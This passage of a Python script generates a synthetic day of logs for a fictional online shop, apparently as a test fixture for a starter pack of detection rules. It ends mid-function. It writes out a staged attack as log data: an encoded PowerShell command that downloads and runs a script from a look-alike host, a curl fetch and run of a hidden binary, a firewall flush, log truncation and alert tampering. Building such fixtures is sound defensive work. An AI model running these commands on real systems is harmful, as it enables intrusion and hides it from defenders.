#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the logs of one working day at a fictional online apparel shop, with an attack in them.

  generate.py            write events/, expected.jsonl and expected-chains.json beside this file
  generate.py --check    write nothing; exit 1 when what is there differs

The story, host by host and line by line, is in README.md. Everything comes from one seed and a
fixed calendar day, so the output never changes. Names and addresses are those reserved for
documentation (RFC 2606, RFC 5737, RFC 3849) or private (RFC 1918).
"""
import argparse
import base64
import datetime
import html
import json
import pathlib
import random
import re
import sys

HERE = pathlib.Path(__file__).resolve().parent
PACK = HERE.parents[2] / "rules/packs/starter"
SEED = 20261013
DAY = datetime.datetime(2026, 10, 13, tzinfo=datetime.timezone.utc)

SHOP = "larchandloom.example"
CORP = "corp." + SHOP
FAKE = "larch-and-loom.example"  # the attacker's look-alike of SHOP
ATTACKER = "203.0.113.66"
COMMAND_SERVER = "198.51.100.23"
COMMAND_NAME = "edge.fabric-stats.example"
ADDRESS = {
    "web-01": "10.20.1.20", "blog-01": "10.20.1.60", "mx-01": "10.20.1.25", "jump-01": "10.20.1.5",
    "app-01": "10.20.1.40", "app-02": "10.20.1.41", "fw-01": "10.20.0.1", "dc-01": "10.20.2.10",
    "file-01": "10.20.2.30", "ws-mkt-07": "10.20.5.31", "ws-mkt-09": "10.20.5.33",
    "ws-log-02": "10.20.5.42", "ws-fin-03": "10.20.5.51", "ws-dev-01": "10.20.5.61",
}
OWNER = {"ws-mkt-07": "ana.silva", "ws-mkt-09": "tom.reed", "ws-log-02": "ivo.kranz",
         "ws-fin-03": "lea.moser", "ws-dev-01": "kai.obi"}
FLAT_HOSTS = {"ws-mkt-09", "ws-log-02", "ws-dev-01"}  # these ship flat keys, the others nested ones
BOTS = ["ws-mkt-07", "ws-mkt-09", "ws-log-02", "app-01", "app-02"]
FILES = ["auth.log", "firewall.log", "linux-audit.log", "linux-sysmon.log", "mail.log", "web.log",
         "windows.jsonl"]

SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "Mozilla/5.0 (Linux; Android 16) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",
]

rng = random.Random(SEED)
lines = {name: [] for name in FILES}  # file -> [(time, order, text, rules, part of the attack)]


# --- time and bookkeeping ---------------------------------------------------------------------

def at(clock, milliseconds=None):
    """The moment "09:14:10" of the day; the milliseconds are drawn when not given."""
    hours, minutes, seconds = (int(part) for part in clock.split(":"))
    if milliseconds is None:
        milliseconds = rng.randrange(1000)
    return DAY + datetime.timedelta(hours=hours, minutes=minutes, seconds=seconds,
                                    milliseconds=milliseconds)


def later(time, seconds):
    return time + datetime.timedelta(milliseconds=round(seconds * 1000))


def some_time(first=7.0, last=17.0):
    """A moment of the working day, hours as decimal numbers, busier at noon."""
    return DAY + datetime.timedelta(
        milliseconds=int(rng.triangular(first, last, (first + last) / 2) * 3_600_000))


def iso(time):
    return time.strftime("%Y-%m-%dT%H:%M:%S.") + f"{time.microsecond // 1000:03d}Z"


def add(name, time, text, rules=(), attack=False):
    lines[name].append((time, len(lines[name]), text, list(rules), attack))


def rule_id(path):
    text = (PACK / (path + ".yml")).read_text(encoding="utf-8")
    return re.search(r"^id: (\S+)$", text, re.MULTILINE).group(1)


# --- syslog lines -----------------------------------------------------------------------------

def syslog(name, time, host, program, message, pid=None, **marks):
    """The older header, with the time zone that newer syslog daemons write."""
    tag = program if pid is None else f"{program}[{pid}]"
    add(name, time, f"{iso(time)} {host} {tag}: {message}", **marks)


def access(time, host, client, request, status, agent=None, referer="-", size=None, name="web.log",
           **marks):
    """An access log line in a syslog line with the newer header."""
    agent = agent or rng.choice(BROWSERS)
    size = rng.randrange(200, 60000) if size is None else size
    when = time.strftime("%d/%b/%Y:%H:%M:%S +0000")
    add(name, time, f'<190>1 {iso(time)} {host} nginx - - - {client} - - [{when}] '
        f'"{request} HTTP/1.1" {status} {size} "{referer}" "{agent}"', **marks)


def packet(time, action, source, target, port, protocol="TCP", **marks):
    uptime = (time - DAY).total_seconds() + 86400
    tail = "WINDOW=64240 RES=0x00 SYN URGP=0" if protocol == "TCP" else "LEN=40"
    syslog("firewall.log", time, "fw-01", "kernel",
           f"[{uptime:.6f}] [UFW {action}] IN=eth0 OUT=eth1 SRC={source} DST={target} LEN=60 "
           f"TOS=0x00 PREC=0x00 TTL={rng.randrange(48, 64)} ID={rng.randrange(65536)} "
           f"PROTO={protocol} SPT={rng.randrange(32768, 61000)} DPT={port} {tail}", **marks)


def mail(time, client, client_name, sender, recipient, verdict, score, symbols, threshold,
         delivered=True, **marks):
    """The lines of one mail on the gateway; marks belong to the verdict of the filter."""
    queue = f"{rng.randrange(16 ** 10):010X}"
    smtpd, cleanup = rng.randrange(2000, 9000), rng.randrange(2000, 9000)
    message = f"{time:%Y%m%d%H%M%S}.{queue}@{sender.split('@')[1]}"
    flag = "F" if verdict != "reject" else "T"

    def put(seconds, program, text, pid, **extra):
        syslog("mail.log", later(time, seconds), "mx-01", program, text, pid, **extra)
    put(0.0, "postfix/smtpd", f"connect from {client_name}[{client}]", smtpd)
    put(0.2, "postfix/smtpd", f"{queue}: client={client_name}[{client}]", smtpd)
    put(0.3, "postfix/cleanup", f"{queue}: message-id=<{message}>", cleanup)
    put(0.6, "rspamd", f"<{queue[:6].lower()}>; task; rspamd_task_write_log: id: <{message}>, "
        f"qid: <{queue}>, ip: {client}, from: <{sender}>, (default: {flag} ({verdict}): "
        f"[{score:.2f} / {threshold}] [{symbols}]), len: {rng.randrange(1800, 90000)}, "
        f"time: {rng.randrange(40, 400)}.{rng.randrange(10)}ms, dns req: {rng.randrange(4, 40)}, "
        f"rcpts: <{recipient}>, mime_rcpts: <{recipient}>", 1288, **marks)
    if delivered:
        put(0.8, "postfix/qmgr", f"{queue}: from=<{sender}>, size={rng.randrange(1800, 90000)}, "
            "nrcpt=1 (queue active)", 1301)
        put(1.1, "postfix/lmtp", f"{queue}: to=<{recipient}>, relay=store.{SHOP}[10.20.1.26]:24, "
            "delay=0.9, dsn=2.0.0, status=sent (250 2.0.0 Saved)", rng.randrange(2000, 9000))
    put(1.4, "postfix/smtpd", f"disconnect from {client_name}[{client}] ehlo=1 mail=1 rcpt=1 "
        "data=1 quit=1 commands=5", smtpd)


# --- Linux audit and Sysmon for Linux ---------------------------------------------------------

audit_serial = 40000


def audit_command(time, host, arguments, pid, parent, user=0, session=4294967295, **marks):
    """One execve as its four records; the marks belong to the record with the arguments."""
    global audit_serial
    audit_serial += 1
    stamp = f"msg=audit({time.timestamp():.3f}:{audit_serial}):"
    program = arguments[0].rsplit("/", 1)[-1]
    path = f"/usr/bin/{program}"
    quoted = " ".join(f'a{index}="{text}"' for index, text in enumerate(arguments))
    records = [
        (f"SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1a2b3c0 "
         f"a1=55d0c1a2b4d0 a2=55d0c1a2b5e0 a3=8 items=2 ppid={parent} pid={pid} auid={user} "
         f"uid={user} gid={user} euid={user} suid={user} fsuid={user} egid={user} sgid={user} "
         f'fsgid={user} tty=pts0 ses={session} comm="{program[:15]}" exe="{path}" key="exec"', {}),
        (f"EXECVE {stamp} argc={len(arguments)} {quoted}", marks),
        (f'CWD {stamp} cwd="/root"', {}),
        (f'PATH {stamp} item=0 name="{path}" inode={rng.randrange(900000)} dev=fd:00 '
         "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 "
         "cap_fver=0 cap_frootid=0", {}),
    ]
    for text, extra in records:
        add("linux-audit.log", time, f"node={host} type={text}", **extra)


def linux_sysmon(time, host, number, fields, **marks):
    data = "".join(f'<Data Name="{key}">{html.escape(str(value), quote=False)}</Data>'
                   for key, value in fields.items())
    add("linux-sysmon.log", time,
        f'<14>1 {iso(time)} {host} sysmon 611 - - <Event><System><Provider Name="Linux-Sysmon" '
        f'Guid="{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}"/><EventID>{number}</EventID>'
        f"<Version>5</Version><Level>4</Level><Task>{number}</Task><Opcode>0</Opcode>"
        f'<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="{iso(time)}"/>'
        f"<EventRecordID>{len(lines['linux-sysmon.log']) + 1}</EventRecordID><Correlation/>"
        f'<Execution ProcessID="611" ThreadID="611"/><Channel>Linux-Sysmon/Operational</Channel>'
        f'<Computer>{host}</Computer><Security UserId="0"/></System><EventData>{data}</EventData>'
        "</Event>", **marks)


def linux_process(time, host, process, parent, image, command, parent_image, user="root", **marks):
    linux_sysmon(time, host, 1, {
        "RuleName": "-", "UtcTime": iso(time)[:-1].replace("T", " "), "ProcessGuid": process[0],
        "ProcessId": process[1], "Image": image, "FileVersion": "-", "Description": "-",
        "Product": "-", "Company": "-", "OriginalFileName": "-", "CommandLine": command,
        "CurrentDirectory": "/root", "User": user, "LogonGuid": guid(host, 1), "LogonId": "0",
        "TerminalSessionId": "7", "IntegrityLevel": "no level", "Hashes": "-",
        "ParentProcessGuid": parent[0], "ParentProcessId": parent[1], "ParentImage": parent_image,
        "ParentCommandLine": parent_image, "ParentUser": user}, **marks)


def linux_connection(time, host, process, image, target, port, name="-", user="root", **marks):
    linux_sysmon(time, host, 3, {
        "RuleName": "-", "UtcTime": iso(time)[:-1].replace("T", " "), "ProcessGuid": process[0],
        "ProcessId": process[1], "Image": image, "User": user, "Protocol": "tcp",
        "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": ADDRESS[host],
        "SourceHostname": "-", "SourcePort": rng.randrange(32768, 61000), "SourcePortName": "-",
        "DestinationIsIpv6": "false", "DestinationIp": target, "DestinationHostname": name,
        "DestinationPort": port, "DestinationPortName": "-"}, **marks)


# --- Windows ----------------------------------------------------------------------------------

next_process = {}


def guid(host, number):
    host_part = sum(ord(letter) * 257 ** index for index, letter in enumerate(host)) % 2 ** 32
    return f"{{{host_part:08x}-{number % 65536:04x}-68ec-0000-0010{number:08x}}}"


def new_process(host):
    """A process of the host: (GUID, id)."""
    next_process[host] = next_process.get(host, 800) + rng.randrange(1, 9)
    number = next_process[host]
    return guid(host, number), number * 4


def windows(time, host, number, channel, data, **marks):
    provider = {"Security": "Microsoft-Windows-Security-Auditing",
                "Microsoft-Windows-Sysmon/Operational": "Microsoft-Windows-Sysmon"}[channel]
    computer = f"{host.upper()}.{CORP}"
    record = 700000 + len(lines["windows.jsonl"])
    if host in FLAT_HOSTS:
        utc = iso(time)[:-1].replace("T", " ")
        event = {"EventTime": utc[:-4], "Hostname": computer, "Keywords": -9223372036854775808,
                 "EventType": "INFO", "SeverityValue": 2, "Severity": "INFO", "EventID": number,
                 "SourceName": provider, "Version": 5, "Task": number, "OpcodeValue": 0,
                 "RecordNumber": record, "Channel": channel, **data,
                 "EventReceivedTime": utc[:-4], "SourceModuleName": "eventlog",
                 "SourceModuleType": "im_msvistalog", "@timestamp": iso(later(time, 0.8))}
    else:
        event = {"@timestamp": iso(time),
                 "event": {"code": str(number), "kind": "event", "provider": provider},
                 "host": {"name": computer}, "agent": {"type": "winlogbeat", "version": "8.19.4"},
                 "winlog": {"api": "wineventlog", "channel": channel, "computer_name": computer,
                            "event_id": str(number), "provider_name": provider,
                            "record_id": str(record), "event_data": data}}
    add("windows.jsonl", time, json.dumps(event, ensure_ascii=False, separators=(",", ":")), **marks)


def sysmon(time, host, number, process, data, **marks):
    head = {"RuleName": "-", "UtcTime": iso(time)[:-1].replace("T", " "),
            "ProcessGuid": process[0], "ProcessId": str(process[1])}
    windows(time, host, number, "Microsoft-Windows-Sysmon/Operational", {**head, **data}, **marks)


def account(host):
    return "LARCH\\" + OWNER[host] if host in OWNER else "NT AUTHORITY\\SYSTEM"


def process_start(time, host, process, parent, image, command, parent_image, user=None, logon=None,
                  **marks):
    sysmon(time, host, 1, process, {
        "Image": image, "FileVersion": "-", "Description": "-", "Product": "-", "Company": "-",
        "OriginalFileName": image.rsplit("\\", 1)[-1], "CommandLine": command,
        "CurrentDirectory": "C:\\Windows\\system32\\", "User": user or account(host),
        "LogonGuid": guid(host, 2), "LogonId": logon or "0x5a3f1", "TerminalSessionId": "1",
        "IntegrityLevel": "Medium", "Hashes": f"SHA256={rng.randrange(16 ** 64):064X}",
        "ParentProcessGuid": parent[0], "ParentProcessId": str(parent[1]),
        "ParentImage": parent_image, "ParentCommandLine": parent_image}, **marks)


def connection(time, host, process, image, target, port, name="-", user=None, **marks):
    sysmon(time, host, 3, process, {
        "Image": image, "User": user or account(host), "Protocol": "tcp", "Initiated": "true",
        "SourceIsIpv6": "false", "SourceIp": ADDRESS[host], "SourceHostname": "-",
        "SourcePort": str(rng.randrange(49152, 65535)), "SourcePortName": "-",
        "DestinationIsIpv6": "false", "DestinationIp": target, "DestinationHostname": name,
        "DestinationPort": str(port), "DestinationPortName": "-"}, **marks)


def name_lookup(time, host, process, image, name, address, **marks):
    sysmon(time, host, 22, process, {"QueryName": name, "QueryStatus": "0",
                                     "QueryResults": f"::ffff:{address};", "Image": image,
                                     "User": account(host)}, **marks)


def security(time, host, number, data, **marks):
    windows(time, host, number, "Security", data, **marks)


def network_logon(time, host, user, logon, source, **marks):
    security(time, host, 4624, {
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
        "SubjectLogonId": "0x0", "TargetUserSid": f"S-1-5-21-70-71-72-{1100 + len(user)}",
        "TargetUserName": user, "TargetDomainName": "LARCH", "TargetLogonId": logon,
        "LogonType": "3", "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos",
        "WorkstationName": "-", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": source,
        "IpPort": str(rng.randrange(49152, 65535))}, **marks)


# --- the attack -------------------------------------------------------------------------------

def attack(*rules):
    """The marks of a line that belongs to the attack, with the rules that must see it."""
    return {"rules": rules, "attack": True}


def scout_the_shop():
    scanner = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{})"
    for clock, test in (("08:41:02", "Port Check"), ("08:41:05", "getinfo"), ("08:41:09", "map_codes")):
        access(at(clock), "web-01", ATTACKER, "GET /", 200, scanner.format(test),
               **attack("external_reconnaissance/web_scanner_user_agent"))
    # From here on the visitor looks like a browser.
    agent = BROWSERS[2]
    for index in range(70):
        path = rng.choice(["admin", "api/v2", "backup", "test", "old", "static/js", "shop/cart",
                           "wp-admin", "returns", "staff", "b2b", "checkout/v1", "img/tmp"])
        access(later(at("08:44:00", 0), index * 14), "web-01", ATTACKER,
               f"GET /{path}{rng.choice(['', '/', '.bak', '.php', '/index'])}",
               rng.choice([404, 404, 404, 403, 301]), agent)
    for clock, path, status in (("08:47:31", "/.git/config", 404), ("08:47:32", "/.git/HEAD", 404),
                                ("08:52:10", "/.env", 403), ("08:55:44", "/backup.sql", 404)):
        access(at(clock), "web-01", ATTACKER, f"GET {path}", status, agent,
               **attack("external_reconnaissance/web_probe_for_exposed_secrets"))
    access(at("09:01:17"), "web-01", ATTACKER, "GET /wp-json/wp/v2/users?per_page=100", 200, agent,
           **attack("external_reconnaissance/web_account_name_enumeration"))


def blind_the_mail_gateway():
    agent = BROWSERS[2]
    alerting = "defense_evasion/web_appliance_alerting_changed_from_outside"
    for clock, request, status, rules in (
            ("09:12:31", "GET /console/login", 200, ()),
            ("09:12:58", "POST /console/api/v1/session", 401, ()),
            ("09:13:20", "POST /console/api/v1/session", 200, ()),
            ("09:14:10", "PUT /console/api/v1/alerting/threshold?channel=soc&value=5000", 200, (alerting,)),
            ("09:15:02", "PUT /console/api/v1/quarantine/policy?action=deliver", 200, (alerting,)),
            ("09:17:45", "DELETE /console/api/v1/logs/audit?scope=all", 204,
             ("defense_evasion/web_appliance_log_purge_from_outside",)),
            ("09:19:30", "POST /console/api/v1/session/end", 200, ())):
        access(at(clock), "mx-01", ATTACKER, request, status, agent, name="mail.log",
               **(attack(*rules) if rules else {}))
    # The maintenance shell of the console.
    audit_command(at("09:16:05"), "mx-01", ["iptables", "-F"], 6120, 6101, session=41,
                  **attack("defense_evasion/auditd_packet_filter_opened"))
    audit_command(at("09:18:20"), "mx-01", ["truncate", "-s", "0", "/var/log/mail.log"], 6133, 6101,
                  session=41, **attack("defense_evasion/auditd_log_file_emptied"))


def phish_two_employees():
    for clock, user in (("09:31:12", "ana.silva"), ("09:31:40", "tom.reed")):
        time = at(clock)
        packet(time, "ALLOW", ATTACKER, ADDRESS["mx-01"], 25)
        mail(time, ATTACKER, f"mail.{FAKE}", f"helpdesk@{FAKE}", f"{user}@{SHOP}", "no action", 9.2,
             f"PHISHING(4.00){{{SHOP}->{FAKE};}},R_SPF_ALLOW(-0.20){{+ip4:{ATTACKER};}},"
             "URI_COUNT_ODD(1.00){1;},MIME_HTML_ONLY(0.20){}", "5000.00",
             **attack("launch_attack/mail_phishing_verdict_delivered"))


def run_the_lure():
    """ana.silva opens the mail; returns the implant's process."""
    host, home = "ws-mkt-07", "C:\\Users\\ana.silva\\"
    lure = home + "Downloads\\size_return_form_4471.pdf.js"
    explorer, outlook, chrome, script, shell, implant = (new_process(host) for _ in range(6))
    process_start(at("09:43:50"), host, outlook, explorer, OUTLOOK, f'"{OUTLOOK}"',
                  "C:\\Windows\\explorer.exe")
    process_start(at("09:44:20"), host, chrome, outlook, CHROME,
                  f'"{CHROME}" --single-argument https://returns.{FAKE}:8443/form/4471', OUTLOOK)
    name_lookup(at("09:44:21"), host, chrome, CHROME, f"returns.{FAKE}", ATTACKER)
    connection(at("09:44:22"), host, chrome, CHROME, ATTACKER, 8443, f"returns.{FAKE}",
               **attack("launch_attack/net_connection_win_browser_to_uncommon_port"))
    sysmon(at("09:44:41"), host, 15, chrome, {
        "Image": CHROME, "TargetFilename": lure + ":Zone.Identifier",
        "CreationUtcTime": "2026-10-13 09:44:40.902", "Hash": f"SHA256={rng.randrange(16 ** 64):064X}",
        "Contents": f"[ZoneTransfer]  ZoneId=3  HostUrl=https://returns.{FAKE}:8443/form/4471",
        "User": account(host)},
        **attack("launch_attack/create_stream_hash_win_double_extension_download"))
    process_start(at("09:45:03"), host, script, chrome, SYSTEM32 + "wscript.exe",
                  f'"{SYSTEM32}WScript.exe" "{lure}"', CHROME,
                  **attack("initial_compromise/proc_creation_win_script_host_runs_download"))
    command = f"iex (iwr https://returns.{FAKE}/s -UseBasicParsing).Content"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    process_start(at("09:45:06"), host, shell, script, POWERSHELL,
                  f"powershell.exe -NoP -W Hidden -Enc {encoded}", SYSTEM32 + "wscript.exe",
                  **attack("execution/proc_creation_win_powershell_encoded_command"))
    connection(at("09:45:09"), host, shell, POWERSHELL, ATTACKER, 443, f"returns.{FAKE}",
               **attack("establish_foothold/net_connection_win_script_host_to_public_address"))
    image = home + "AppData\\Roaming\\FitSync\\fitsync.exe"
    sysmon(at("09:45:20"), host, 11, shell, {
        "Image": POWERSHELL, "TargetFilename": image,
        "CreationUtcTime": "2026-10-13 09:45:20.100", "User": account(host)})
    process_start(at("09:45:24"), host, implant, shell, image, f'"{image}" -b', POWERSHELL)
    return implant, image


def beacon(host, process, image, clocks, user=None):
    rule = ("net_connection_win_script_host_to_public_address" if image == POWERSHELL
            else "net_connection_win_program_in_user_writable_folder")
    for clock in clocks:
        time = at(clock)
        name_lookup(later(time, -0.3), host, process, image, COMMAND_NAME, COMMAND_SERVER)
        connection(time, host, process, image, COMMAND_SERVER, 443, COMMAND_NAME, user,
                   **attack("establish_foothold/" + rule))


def spread_to_windows(implant, image):
    """Service on ws-mkt-09, remote management on ws-log-02; returns the process on ws-mkt-09."""
    admin_port = "move_laterally/net_connection_win_odd_program_to_administration_port"
    source = ADDRESS["ws-mkt-07"]
    connection(at("10:05:11"), "ws-mkt-07", implant, image, ADDRESS["ws-mkt-09"], 445,
               **attack(admin_port))
    host, logon = "ws-mkt-09", "0x3f21c7"
    who = {"SubjectUserSid": "S-1-5-21-70-71-72-1150", "SubjectUserName": "svc-deploy",
           "SubjectDomainName": "LARCH", "SubjectLogonId": logon}
    network_logon(at("10:05:12"), host, "svc-deploy", logon, source)
    security(at("10:05:14"), host, 5145, {
        **who, "ObjectType": "File", "IpAddress": source, "IpPort": "50877",
        "ShareName": "\\\\*\\ADMIN$", "ShareLocalPath": "\\??\\C:\\Windows",
        "RelativeTargetName": "Temp\\fitsync.exe", "AccessMask": "0x2",
        "AccessList": "%%4417\n\t\t\t\t"},
        **attack("move_laterally/win_security_program_written_to_admin_share"))
    remote = "C:\\Windows\\Temp\\fitsync.exe"
    security(at("10:05:16"), host, 4697, {
        **who, "ServiceName": "FitSync", "ServiceFileName": remote, "ServiceType": "0x10",
        "ServiceStartType": "3", "ServiceAccount": "LocalSystem"},
        **attack("move_laterally/win_security_service_from_unusual_place"))
    services, second = new_process(host), new_process(host)
    process_start(at("10:05:17"), host, second, services, remote, remote, SYSTEM32 + "services.exe",
                  user="NT AUTHORITY\\SYSTEM", logon="0x3e7")
    beacon(host, second, remote, ("10:06:01", "11:06:04"), user="NT AUTHORITY\\SYSTEM")

    connection(at("10:31:40"), "ws-mkt-07", implant, image, ADDRESS["ws-log-02"], 5985,
               **attack(admin_port))
    host = "ws-log-02"
    network_logon(at("10:31:42"), host, "svc-deploy", "0x51d0aa", source)
    manager, shell = new_process(host), new_process(host)
    process_start(at("10:31:44"), host, shell, manager, POWERSHELL,
                  "powershell.exe -NoP -File C:\\ProgramData\\FitSync\\run.ps1",
                  SYSTEM32 + "wsmprovhost.exe", user="LARCH\\svc-deploy", logon="0x51d0aa",
                  **attack("move_laterally/proc_creation_win_remote_management_starts_shell"))
    beacon(host, shell, POWERSHELL, ("10:32:20", "11:32:25"), user="LARCH\\svc-deploy")
    return second, remote


def spread_to_linux(implant, image):
    connection(at("10:58:03"), "ws-mkt-09", implant, image, ADDRESS["app-01"], 22,
               user="NT AUTHORITY\\SYSTEM",
               **attack("move_laterally/net_connection_win_odd_program_to_administration_port"))
    for host, source, clock in (("app-01", "ws-mkt-09", "10:58:05"), ("app-02", "app-01", "11:21:10")):
        time = at(clock)
        syslog("auth.log", time, host, "sshd", f"Accepted password for root from {ADDRESS[source]} "
               f"port {rng.randrange(49152, 65535)} ssh2", rng.randrange(20000, 30000),
               **attack("move_laterally/sshd_root_password_logon_from_inside"))
        shell, fetch, bot = (new_process(host) for _ in range(3))
        linux_process(later(time, 12), host, fetch, shell, "/usr/bin/curl",
                      f"curl -sk -o /tmp/.fitsync https://{COMMAND_SERVER}/l", "/usr/bin/bash")
        linux_process(later(time, 26), host, bot, shell, "/tmp/.fitsync", "/tmp/.fitsync -b",
                      "/usr/bin/bash",
                      **attack("execution/proc_creation_lnx_hidden_program_in_temporary_folder"))
        linux_connection(later(time, 35), host, bot, "/tmp/.fitsync", COMMAND_SERVER, 443, COMMAND_NAME,
                         **attack("establish_foothold/net_connection_lnx_program_in_temporary_folder"))


def flood_the_shop():
    """Five machines imitate customers; the limit of the web server turns some requests away."""
    for number, host in enumerate(BOTS):
        for index in range(90):
            time = later(at("12:05:00", 0), number * 1.7 + index * 8.5 + rng.random() * 3)
            limited = index in (20, 45, 70)
            status = 429 if limited else rng.choice([200] * 5 + [502, 504] if index > 30 else [200])
            marks = attack("execute_objective/web_internal_client_rate_limited") if limited else {}
            access(time, "web-01", ADDRESS[host],
                   f"GET /checkout/quote?item={rng.randrange(1000, 9999)}&size={rng.choice('SML')}",
                   status, BROWSERS[0], f"https://www.{SHOP}/cart", 178 if limited else None, **marks)
    syslog("web.log", at("12:09:02"), "web-01", "kernel", "[129942.551230] TCP: request_sock_TCP: "
           "Possible SYN flooding on port 443. Sending cookies.  Check SNMP counters.",
           **attack("execute_objective/linux_kernel_reports_connection_flood"))


# --- detections that have nothing to do with it ------------------------------------------------

def unrelated_detections():
    for clock in ("10:12:40", "13:35:12", "15:10:09"):
        access(at(clock), "blog-01", "198.51.100.200", "GET /", 200, "Mozilla/5.0 zgrab/0.x",
               rules=["external_reconnaissance/web_internet_census_scanner"])
    for clock, port in (("07:40:11", 3389), ("11:02:54", 23), ("13:50:02", 445), ("13:50:03", 3389)):
        packet(at(clock), "BLOCK", "198.51.100.202", "192.0.2.10", port,
               rules=["external_reconnaissance/firewall_probe_of_administration_port"])
    for clock in ("07:25:30", "15:41:02"):
        syslog("auth.log", at(clock), "jump-01", "sshd", "error: maximum authentication attempts "
               "exceeded for invalid user admin from 198.51.100.201 port 51022 ssh2 [preauth]", 1744,
               rules=["launch_attack/sshd_authentication_attempts_exhausted"])
    syslog("auth.log", at("09:20:17"), "jump-01", "sshd",
           "Did not receive identification string from 198.51.100.203 port 41022", 1790,
           rules=["external_reconnaissance/sshd_probe_without_login"])
    syslog("auth.log", at("14:45:33"), "jump-01", "sudo", "  mia.berg : user NOT in sudoers ; "
           "TTY=pts/1 ; PWD=/home/mia.berg ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
           rules=["escalate_privileges/sudo_user_not_allowed"])
    # An administrator looks into a logon problem; the payroll export goes out with a password; a
    # developer shows a draft to a customer through a tunnel.
    process_start(at("14:20:51"), "dc-01", new_process("dc-01"), new_process("dc-01"),
                  SYSTEM32 + "nltest.exe", f"nltest /dclist:{CORP}", SYSTEM32 + "cmd.exe",
                  user="LARCH\\ops.admin", logon="0x7b210",
                  rules=["internal_reconnaissance/proc_creation_win_domain_trust_discovery"])
    process_start(at("11:30:18"), "ws-fin-03", new_process("ws-fin-03"), new_process("ws-fin-03"),
                  "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pWage-2026-10 D:\\out\\wages.7z "
                  "D:\\wages\\october", SYSTEM32 + "cmd.exe",
                  rules=["execute_objective/proc_creation_win_archive_with_password"])
    name_lookup(at("10:40:27"), "ws-dev-01", new_process("ws-dev-01"), CHROME,
                "draft-7c1e.trycloudflare.com", "192.0.2.180",
                rules=["establish_foothold/dns_query_win_tunnel_service"])


# --- an ordinary day --------------------------------------------------------------------------

def customer():
    return rng.choice([f"192.0.2.{rng.randrange(32, 250)}", f"198.51.100.{rng.randrange(100, 190)}",
                       f"203.0.113.{rng.randrange(100, 250)}", f"2001:db8:{rng.randrange(4096):x}::7"])


def ordinary_web():
    pages = ["/", "/women/coats", "/men/shirts", "/sale", "/p/4471", "/p/2210?size=M", "/p/9034",
             "/search?q=linen+shirt", "/search?q=union+jack+scarf", "/cart", "/help/returns",
             "/static/app.css", "/static/app.js", "/img/p/4471-2.webp", "/img/p/2210-1.webp"]
    for _ in range(230):  # visits of some pages each
        client, agent, time = customer(), rng.choice(BROWSERS), some_time()
        for _ in range(rng.randrange(1, 6)):
            slow = at("12:06:00", 0) < time < at("12:22:00", 0)
            access(time, "web-01", client, "GET " + rng.choice(pages),
                   rng.choice([200, 502, 504]) if slow else rng.choice([200] * 12 + [304, 304, 404]),
                   agent, f"https://www.{SHOP}/")
            time = later(time, rng.uniform(1, 40))
        if rng.random() < 0.15:
            access(time, "web-01", client, "POST /checkout/order", 201, agent)
    for _ in range(90):
        access(some_time(), "blog-01", customer(), "GET " + rng.choice(
            ["/", "/2026/10/autumn-looks", "/feed", "/about", "/2026/09/linen-care"]),
            rng.choice([200, 200, 304]))
    for minute in range(0, 600, 10):
        access(later(at("07:00:04", 0), minute * 60), "web-01", ADDRESS["jump-01"], "GET /healthz", 200,
               "Blackbox Exporter/0.27.0", size=2)


def ordinary_mail():
    relays = [("192.0.2.25", "relay.weaver.example"), ("192.0.2.26", "out.cloth-news.example"),
              ("198.51.100.61", "mta.parcel.example"), ("203.0.113.90", "smtp.bank.example")]
    for _ in range(85):
        time, (client, name) = some_time(), rng.choice(relays)
        threshold = "15.00" if time < at("09:14:10", 0) else "5000.00"
        mail(time, client, name, f"{rng.choice(['info', 'orders', 'news', 'j.weber'])}@{name.split('.', 1)[1]}",
             f"{rng.choice(list(OWNER.values()))}@{SHOP}", "no action", rng.uniform(-2, 3),
             "R_SPF_ALLOW(-0.20){},R_DKIM_ALLOW(-0.20){},MIME_GOOD(-0.10){multipart/alternative;}",
             threshold)
    for clock in ("07:12:09", "07:55:40", "08:20:31"):
        mail(at(clock), "198.51.100.155", "unknown", "prize@lucky.example", f"lea.moser@{SHOP}",
             "reject", 19.4, "PHISHING(4.00){bank.example->lucky.example;},R_SPF_FAIL(1.00){}", "15.00",
             delivered=False)
    for clock in ("08:05:11", "13:20:45"):
        access(at(clock), "mx-01", ADDRESS["jump-01"], "GET /console/api/v1/logs?lines=200", 200,
               BROWSERS[2], name="mail.log")


def ordinary_packets():
    inside = [ADDRESS[host] for host in ("ws-fin-03", "ws-dev-01", "ws-mkt-07", "ws-log-02", "mx-01")]
    for _ in range(170):
        packet(some_time(), "ALLOW", rng.choice(inside), f"192.0.2.{rng.randrange(150, 200)}",
               rng.choice([443, 443, 443, 80, 993]))
    for _ in range(110):
        packet(some_time(), "BLOCK", f"198.51.100.{rng.randrange(204, 250)}", "192.0.2.10",
               rng.choice([8081, 8443, 5060, 49152, 2000, 81]), rng.choice(["TCP", "TCP", "UDP"]))


def ordinary_logons():
    for _ in range(60):
